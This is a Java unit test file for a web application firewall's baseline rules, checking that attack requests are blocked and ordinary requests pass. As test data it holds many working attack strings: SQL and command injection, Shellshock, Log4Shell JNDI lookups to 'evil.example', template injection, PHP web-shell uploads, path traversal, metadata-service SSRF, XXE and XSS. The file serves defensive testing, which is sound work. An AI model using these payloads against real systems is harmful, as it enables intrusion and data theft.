package casemate.waf;

import static org.assertj.core.api.Assertions.assertThat;

import casemate.waf.seclang.RuleSource;
import casemate.waf.text.Bytes;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// The baseline against what everybody tries, and against what people write.
final class BaselineTest {
    private static final Firewall FIREWALL = Firewall.load(FirewallConfig.of(RuleSource.baseline()));

    private static final String FORM = "application/x-www-form-urlencoded";

    private static final String PARTS = "multipart/form-data; boundary=b";

    private record Outcome(Verdict verdict, List<Long> rules) {}

    @ParameterizedTest
    @CsvSource(
            delimiter = ' ',
            value = {
                "9900400 /?id=1%27%20or%20%271%27=%271",
                "9900401 /?id=1+UNION+SELECT+password+FROM+users",
                "9900401 /?id=1/**/union/**/select/**/1,2",
                "9900401 /?id=1%27;WAITFOR%20DELAY%20%270:0:5%27--",
                "9900402 /?user[%24ne]=a",
                "9900402 /?__proto__[admin]=1",
                "9900410 /?host=127.0.0.1;cat%20/etc/hosts",
                "9900410 /?q=%24(whoami)",
                "9900410 /?ip=8.8.8.8%7Cid",
                "9900411 /?a=/bin/bash",
                "9900411 /?a=cmd.exe%20/c%20dir",
                "9900420 /?name={{7*7}}",
                "9900420 /?name=%24{jndi:ldap://evil.example/a}",
                "9900420 /?name=%23{T(java.lang.Runtime).getRuntime()}",
                "9900421 /?x=%3C?php%20system(%27id%27);",
                "9900421 /?x=O:8:%22Exploit%22:0:{}",
                "9900500 /?q=%3Cscript%3Ealert(1)%3C/script%3E",
                "9900501 /?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
                "9900501 /?next=javascript:alert(1)",
                "9900300 /?page=../../../../etc/hosts",
                "9900300 /static/%2e%2e/%2e%2e/app.conf",
                "9900300 /?page=..%252f..%252fapp.conf",
                "9900301 /?page=/etc/./passwd",
                "9900302 /?url=http://169.254.169.254/latest/meta-data/",
                "9900302 /?url=php://filter/convert.base64-encode/resource=index.php",
                "9900302 /?url=file:///srv/secret",
                "9900104 /?file=a.txt%00.jpg",
                "9900105 /?lang=en%0d%0aSet-Cookie:%20a=b",
                "9900201 /.git/config",
                "9900201 /.env",
                "9900201 /site/wp-config.php.bak"
            })
    void anAttackInTheAddressIsBlocked(long rule, String target) {
        assertBlocked(rule, send("GET", target, "", "", "", ""));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "9900411|User-Agent|() { :;}; /usr/bin/id",
                "9900420|X-Api-Version|${jndi:ldap://evil.example/a}",
                "9900200|User-Agent|sqlmap/1.8",
                "9900102|Content-Length|abc"
            })
    void anAttackInAHeaderIsBlocked(long rule, String name, String value) {
        assertBlocked(rule, send("GET", "/", name, value, "", ""));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "9900012|application/xml|<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>",
                "9900500|application/json|{\"a\": {\"b\": \"<script>alert(1)</script>\"}}",
                "9900400|application/vnd.api+json|{\"a\": [\"x\", \"1' or '1'='1\"]}",
                "9900012|application/json|{\"a\": ",
                "9900400|application/x-www-form-urlencoded|u=a&p=1'+or+'1'='1"
            })
    void anAttackInABodyIsBlocked(long rule, String type, String body) {
        assertBlocked(rule, send("POST", "/x", "", "", type, body));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "9900600|shell.php|x",
                "9900600|shell.php.jpg|x",
                "9900600|.htaccess|x",
                "9900601|a.png|GIF89a<?php system($_GET[1]);",
                "9900601|a.pdf|#!/bin/sh"
            })
    void anUploadOfWhatCanBeExecutedIsBlocked(long rule, String name, String content) {
        assertBlocked(rule, send("POST", "/up", "", "", PARTS, upload(name, content)));
    }

    @Test
    void aMethodThatNoApplicationNeedsIsBlocked() {
        assertBlocked(9_900_100, send("TRACE", "/", "", "", "", ""));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/a/b/c.html?x=1&y=2&z=a-b_c",
                "/search?q=union+square+hotels&sort=price",
                "/search?q=select+a+seat+from+the+list",
                "/search?q=how+to+drop+a+table+in+word",
                "/?date=2026-11-21&from=10:00&to=12:30",
                "/?next=/account/settings%3Ftab%3D2",
                "/?redirect=https://www.example.org/page%3Fa%3Db"
            })
    void anOrdinaryAddressPasses(String target) {
        assertPassed(send("GET", target, "", "", "", ""));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "title=Printer&text=Since Monday the printer (2nd floor; room 12) doesn't print; I get \"error 5\". O'Brien",
                "text=Salt %26 pepper; cat food | dog food. Sleep well; more on that later %26 tail lights",
                "text=<p>See <b>this</b> <a href=\"https://example.org/a?b=c\">link</a>.</p><ul><li>one</li></ul>",
                "text=We need {{first_name}} and {{ company }} in the newsletter, and ${name} too",
                "text=C:\\Users\\anna\\Desktop and /home/anna/notes... then ok",
                "text=Das kostet 5 * 3 = 15 Euro; Gr\u00fc\u00dfe aus K\u00f6ln",
                "email=anna.o'neil%2Btest@example.org&phone=%2B33 1 23 45 67 89&password=x'Y;z--12%25$"
            })
    void whatPeopleWriteInAFormPasses(String body) {
        assertPassed(send("POST", "/ticket", "", "", FORM, body));
    }

    @Test
    void ordinaryBodiesOfOtherKindsPass() {
        assertPassed(send("POST", "/up", "", "", PARTS, upload("Report 2026-11 (final).pdf", "%PDF-1.7 x")));
        assertPassed(send(
                "PUT",
                "/api",
                "",
                "",
                "application/json",
                "{\"note\": \"It's 5 o'clock; let's go -- now\", \"n\": 1.5}"));
        assertPassed(
                send("POST", "/xml", "", "", "application/xml", "<order><item n=\"1\">Tea &amp; more</item></order>"));
        assertPassed(send("GET", "/", "Cookie", "session=abc123.def456-_; theme=dark; consent={%22a%22:true}", "", ""));
        assertPassed(send("GET", "/", "Referer", "https://www.example.org/search?q=a+b&x=(1)", "", ""));
    }

    private static String upload(String name, String content) {
        return "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"" + name
                + "\"\r\nContent-Type: image/png\r\n\r\n" + content + "\r\n--b--\r\n";
    }

    private static void assertBlocked(long rule, Outcome outcome) {
        assertThat(outcome.verdict().blocked()).as("blocked, with %s", outcome).isTrue();
        assertThat(outcome.rules()).contains(rule);
    }

    private static void assertPassed(Outcome outcome) {
        assertThat(outcome.verdict().blocked()).as("blocked, with %s", outcome).isFalse();
        assertThat(outcome.rules()).allMatch(id -> id == 9_900_000 || id == 9_900_010 || id == 9_900_011);
    }

    /// @param name of one more header, or of one to replace; empty for none
    /// @param type of the body; empty for none
    private static Outcome send(String method, String target, String name, String value, String type, String body) {
        Transaction transaction = FIREWALL.begin();
        transaction.connection("192.0.2.7", 40_312, "198.51.100.1", 443);
        transaction.requestLine(method, target, "HTTP/1.1");
        transaction.requestHeader("Host", "example.org");
        if (!name.equals("User-Agent")) {
            transaction.requestHeader(
                    "User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");
        }
        if (!name.isEmpty()) {
            transaction.requestHeader(name, value);
        }
        Bytes bytes = Bytes.latin1(body);
        if (!type.isEmpty()) {
            transaction.requestHeader("Content-Type", type);
            transaction.requestHeader("Content-Length", Integer.toString(bytes.length()));
        }
        Verdict verdict = transaction.requestHeadersEnd();
        if (!verdict.blocked()) {
            transaction.requestBody(bytes);
            verdict = transaction.requestBodyEnd();
        }
        return new Outcome(
                verdict, transaction.matches().stream().map(RuleMatch::id).toList());
    }
}
